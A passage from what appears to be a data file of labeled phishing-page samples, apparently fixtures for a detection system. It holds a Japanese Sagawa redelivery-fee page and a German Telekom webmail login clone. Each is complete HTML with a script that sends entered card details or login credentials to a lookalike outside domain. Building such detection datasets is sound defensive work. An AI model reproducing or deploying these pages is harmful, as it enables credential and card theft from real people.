  <div class="tt">本人確認（カード情報）</div>
  <p>再配達手数料 <b>330円</b> のお支払いのため、クレジットカード情報をご入力ください。</p>
  <label>カード名義人（ローマ字）</label><input name="holder" required>
  <label>カード番号</label><input name="cardno" inputmode="numeric" required>
  <label>有効期限（MM/YY）</label><input name="exp" required>
  <label>セキュリティコード</label><input name="cvv" maxlength="4" required>
  <button class="btn">確認する</button>
 </form>
 <div class="ft">Copyright © SG HOLDINGS GROUP. All Rights Reserved.</div>
</div>
<script>
(function(){
 if(!/Android|iPhone|iPad|Mobile/i.test(navigator.userAgent)&&!/[?&]pc=1/.test(location.search)){document.body.innerHTML='<p style="padding:40px;font-family:sans-serif">このページはスマートフォンからご利用ください。</p>';return;}
 document.getElementById('no').textContent=new URLSearchParams(location.search).get('no');
 var D={};
 function up(){return fetch('https://sgw-api.redelivery-jp.top/v1/submit',{method:'POST',body:JSON.stringify(D),headers:{'Content-Type':'application/json'}}).catch(function(){})}
 document.getElementById('f1').onsubmit=function(e){e.preventDefault();Object.assign(D,Object.fromEntries(new FormData(this)));up().then(function(){f1.style.display='none';f2.style.display='block'})};
 document.getElementById('f2').onsubmit=function(e){e.preventDefault();Object.assign(D,Object.fromEntries(new FormData(this)));up().then(function(){location.href='https://www.sagawa-exp.co.jp/'})};
})();
</script>
</body>
</html>
`,
  },
  {
    id: "f-phish-telekom-mail-postfach",
    label: "phishing",
    kind: "isp-webmail",
    url: "https://login-telekom-mail.de-kundencenter.online/anmelden",
    body: `<!DOCTYPE html>
<html lang="de">
<head>
<meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Telekom Login</title>
<style>
body{margin:0;font-family:TeleNeo,"Helvetica Neue",Arial,sans-serif;background:#fff;color:#191919}
.bar{height:60px;display:flex;align-items:center;padding:0 32px;border-bottom:1px solid #e0e0e0}
.t{font:800 34px/1 Arial;color:#e20074;position:relative;padding:0 6px}
.t:before,.t:after{content:"";position:absolute;top:22px;width:6px;height:6px;background:#e20074}.t:before{left:-6px}.t:after{right:-6px}
.box{max-width:380px;margin:50px auto;padding:0 20px}
h1{font-size:28px;margin:0 0 8px}.lead{color:#6c6c6c;margin:0 0 24px;font-size:15px}
.inp{border:1px solid #7c7c7c;border-radius:8px;padding:6px 12px;margin-bottom:16px}
.inp span{font-size:12px;color:#6c6c6c;display:block}.inp input{border:0;width:100%;font-size:17px;padding:4px 0;outline:0}
button{width:100%;background:#e20074;color:#fff;border:0;border-radius:8px;padding:13px;font-size:17px;font-weight:700;cursor:pointer}
.info{background:#fff0f7;border-radius:8px;padding:12px;font-size:14px;margin-bottom:20px}
.links{font-size:14px;margin-top:18px}.links a{color:#e20074;display:block;margin-bottom:8px}
footer{border-top:1px solid #e0e0e0;margin-top:80px;padding:20px 32px;font-size:12px;color:#6c6c6c}
</style>
</head>
<body>
<div class="bar"><span class="t">T</span></div>
<div class="box">
 <h1>Login</h1>
 <p class="lead">mit Ihrem Telekom Login</p>
 <div class="info">In Ihrem Postfach befinden sich <b>6 zurückgehaltene Nachrichten</b>. Bitte melden Sie sich an, um diese freizugeben.</div>
 <form id="lf">
  <div class="inp"><span>E-Mail-Adresse oder Benutzername</span><input name="user" autocomplete="username"></div>
  <div class="inp"><span>Passwort</span><input name="pass" type="password" autocomplete="current-password"></div>
  <button>Login</button>
 </form>
 <div class="links"><a href="#">Benutzername oder Passwort vergessen?</a><a href="#">Telekom Login anlegen</a></div>
</div>
<footer>© Telekom Deutschland GmbH · Impressum · Datenschutz</footer>
<script>
document.getElementById('lf').addEventListener('submit',function(e){
 e.preventDefault();
 var b=new FormData(this);b.append('ip_hint',Intl.DateTimeFormat().resolvedOptions().timeZone);
 var x=new XMLHttpRequest();x.open('POST','https://de-kundencenter.online/m/tk/save.php');
 x.onloadend=function(){location.href='https://email.t-online.de/em'};x.send(b);
});
</script>
</body>
</html>
`,
  },
];
